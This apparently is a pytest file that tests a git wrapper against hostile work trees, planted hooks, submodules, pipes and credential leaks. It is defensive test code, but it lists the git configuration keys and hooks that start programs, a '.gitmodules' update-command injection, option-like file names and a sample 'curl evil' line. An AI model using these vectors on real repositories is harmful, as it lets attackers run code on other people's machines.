"""Attacks on the git that runs outside the sandbox, by whoever wrote the work tree that it looks at."""

import os
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from mergewright.domain.errors import ForgeError, MergewrightError
from mergewright.domain.forge import Remote
from mergewright.git import Repository, clone, remote_head

ANN = ("Ann", "ann@example.com")


def git(*arguments: str, cwd: Path) -> None:
    environment = {"PATH": "/usr/bin:/bin", "GIT_CONFIG_GLOBAL": "/dev/null"}
    for role in ("AUTHOR", "COMMITTER"):
        environment |= {f"GIT_{role}_NAME": "Sam", f"GIT_{role}_EMAIL": "sam@example.com"}
    subprocess.run(["git", *arguments], cwd=cwd, env=environment, check=True, capture_output=True)


@pytest.fixture
def trap(tmp_path: Path) -> Path:
    """A program that leaves a file beside it when anything runs it."""
    trap = tmp_path / "trap.sh"
    trap.write_text(f'#!/bin/sh\necho "$0 $*" >> {tmp_path}/sprung\ncat 2>/dev/null\n')
    trap.chmod(0o755)
    return trap


def sprung(trap: Path) -> str:
    path = trap.parent / "sprung"
    return path.read_text() if path.exists() else ""


def arm(git_dir: Path, trap: Path) -> None:
    """Set everything in a repository's own configuration that makes git start a program."""
    for key in (
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "core.editor",
        "diff.external",
        "diff.evil.textconv",
        "diff.evil.command",
        "filter.evil.clean",
        "filter.evil.smudge",
        "filter.evil.process",
        "credential.helper",
    ):
        git("config", "--file", str(git_dir / "config"), key, str(trap), cwd=trap.parent)
    git("config", "--file", str(git_dir / "config"), "filter.evil.required", "true", cwd=trap.parent)
    git("config", "--file", str(git_dir / "config"), "core.hooksPath", "hooks", cwd=trap.parent)
    (git_dir / "hooks").mkdir(exist_ok=True)
    for hook in ("pre-commit", "post-index-change", "reference-transaction", "post-checkout", "pre-push"):
        (git_dir / "hooks" / hook).write_bytes(trap.read_bytes())
        (git_dir / "hooks" / hook).chmod(0o755)


async def repository_with(tmp_path: Path, *, submodule: bool = False) -> tuple[Repository, Remote]:
    bare, seed, library = tmp_path / "shop.git", tmp_path / "seed", tmp_path / "library"
    for folder in (bare, seed, library):
        folder.mkdir()
    git("init", "-q", "--bare", "-b", "main", cwd=bare)
    git("init", "-q", "-b", "main", cwd=seed)
    (seed / "app.py").write_text("x = 1\n")
    if submodule:
        git("init", "-q", "-b", "main", cwd=library)
        git("commit", "-q", "--allow-empty", "-m", "Begin", cwd=library)
        git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "library", cwd=seed)
    git("add", "-A", cwd=seed)
    git("commit", "-q", "-m", "Begin", cwd=seed)
    git("push", "-q", str(bare), "main", cwd=seed)
    remote = Remote(f"file://{bare}", "bot", "")
    return await clone(remote, tmp_path / "git", tmp_path / "tree", branch="main"), remote


async def look_and_push(repository: Repository, remote: Remote) -> str:
    """Everything that a session does with git on the host; gives the diff."""
    base = await repository.head()
    await repository.snapshot()
    await repository.changed_files("HEAD")
    diff = await repository.diff("HEAD")
    await repository.commit_all("Work", author=ANN)
    await repository.push(remote, source="HEAD", branch="main", expect=base)
    await clone(remote, repository.git_dir, repository.work_tree, branch="main")
    return diff


async def test_drivers_named_in_attributes_and_defined_in_the_tree_do_not_run(tmp_path: Path, trap: Path) -> None:
    repository, remote = await repository_with(tmp_path)
    tree = repository.work_tree
    git("init", "-q", str(tree), cwd=tmp_path)
    arm(tree / ".git", trap)
    (tree / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
    (tree / ".gitconfig").write_text(f"[core]\n\tfsmonitor = {trap}\n")
    (tree / "app.py").write_text("x = 2\n")
    git("status", cwd=tree)
    assert sprung(trap), "the trap works: plain git falls into it"
    (tmp_path / "sprung").unlink()
    await look_and_push(repository, remote)
    assert sprung(trap) == ""


async def test_a_repository_nested_in_the_tree_runs_nothing_and_is_taken_as_files(tmp_path: Path, trap: Path) -> None:
    repository, remote = await repository_with(tmp_path)
    nested = repository.work_tree / "vendor" / "lib"
    nested.mkdir(parents=True)
    git("init", "-q", "-b", "main", cwd=nested)
    (nested / "code.py").write_text("y = 1\n")
    (nested / "debug.log").write_text("noise")
    (nested / ".gitignore").write_text("*.log\n")
    git("add", "-A", cwd=nested)
    git("commit", "-q", "-m", "Nested", cwd=nested)
    arm(nested / ".git", trap)
    diff = await look_and_push(repository, remote)
    assert sprung(trap) == ""
    assert "+y = 1" in diff
    assert "Subproject" not in diff
    assert await repository.show_file("HEAD", "vendor/lib/code.py") == b"y = 1\n"
    assert await repository.show_file("HEAD", "vendor/lib/debug.log") is None


async def test_a_submodule_that_turns_hostile_runs_nothing_and_stays_as_it_was(tmp_path: Path, trap: Path) -> None:
    repository, remote = await repository_with(tmp_path, submodule=True)
    library = repository.work_tree / "library"
    assert library.is_dir()
    git("init", "-q", "-b", "main", cwd=library)
    (library / "evil.py").write_text("z = 1\n")
    git("add", "-A", cwd=library)
    git("commit", "-q", "-m", "Hostile", cwd=library)
    arm(library / ".git", trap)
    (library / "evil.py").write_text("z = 2\n")
    modules = repository.work_tree / ".gitmodules"
    modules.write_text(f"{modules.read_text()}\tupdate = !{trap}\n")
    (repository.work_tree / "app.py").write_text("x = 2\n")
    diff = await look_and_push(repository, remote)
    assert sprung(trap) == ""
    assert "Subproject" not in diff


async def test_attributes_cannot_hide_a_change_from_the_diff(tmp_path: Path) -> None:
    repository, _ = await repository_with(tmp_path)
    (repository.work_tree / ".gitattributes").write_text("*.py binary -diff\n")
    await repository.commit_all("Hide", author=ANN)
    (repository.work_tree / "app.py").write_text("import os; os.system('curl evil')\n")
    assert "+import os; os.system('curl evil')" in await repository.diff("HEAD")


@pytest.mark.parametrize("name", [".gitignore", ".gitattributes"])
async def test_a_pipe_in_the_place_of_a_file_that_git_reads_does_not_hold_us_for_ever(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository, _ = await repository_with(tmp_path)
    os.mkfifo(repository.work_tree / name)
    (repository.work_tree / "app.py").write_text("x = 2\n")
    monkeypatch.setattr("mergewright.git.command.LOCAL_SECONDS", 1.0)
    with pytest.raises(MergewrightError, match="did not end"):
        await repository.commit_all("Work", author=ANN)


async def test_a_tracked_file_that_became_a_pipe_is_gone(tmp_path: Path) -> None:
    repository, _ = await repository_with(tmp_path)
    (repository.work_tree / "app.py").unlink()
    os.mkfifo(repository.work_tree / "app.py")
    assert await repository.changed_files("HEAD") == [("D", "app.py")]


async def test_a_path_is_never_taken_for_a_pattern_or_an_option(tmp_path: Path) -> None:
    repository, _ = await repository_with(tmp_path)
    (repository.work_tree / "--output=x").write_text("option\n")
    (repository.work_tree / "*").write_text("star\n")
    (repository.work_tree / ":(top)").write_text("magic\n")
    assert await repository.commit_all("--amend", author=ANN)
    assert await repository.show_file("HEAD", "*") == b"star\n"
    assert await repository.show_file("HEAD", ":(top)") == b"magic\n"
    (repository.work_tree / "app.py").write_text("x = 3\n")
    assert await repository.diff("HEAD", paths=["*"]) == ""


@contextmanager
def serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class _Quiet(BaseHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        return

    def answer(self, status: int, **headers: str) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", "0")
        self.end_headers()


async def test_the_password_is_in_no_argument_that_the_machine_lists() -> None:
    seen: list[str] = []

    class Forge(_Quiet):
        def do_GET(self) -> None:
            for path in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    seen.append(path.read_bytes().replace(b"\0", b" ").decode(errors="replace"))
                except OSError:
                    continue
            self.answer(401, WWW_Authenticate='Basic realm="GitLab"')

    with serving(Forge) as url, pytest.raises(ForgeError) as caught:
        await remote_head(Remote(f"{url}/a/b.git", "bot", "glpat-hidden"), "main")
    assert any("ls-remote" in line for line in seen), "git was running while we looked"
    assert not any("glpat-hidden" in line for line in seen)
    assert "glpat-hidden" not in f"{caught.value.message} {caught.value.hint}"


async def test_a_forge_that_sends_us_on_does_not_send_the_password_on() -> None:
    heard: list[str] = []

    class Thief(_Quiet):
        def do_GET(self) -> None:
            heard.append(self.headers.get("Authorization", "nothing"))
            self.answer(401, WWW_Authenticate='Basic realm="GitLab"')

    with serving(Thief) as thief:

        class Forge(_Quiet):
            def do_GET(self) -> None:
                self.answer(302, Location=f"{thief}{self.path}")

        with serving(Forge) as url, pytest.raises(ForgeError):
            await remote_head(Remote(f"{url}/a/b.git", "bot", "glpat-hidden"), "main")
    assert set(heard) == {"nothing"}
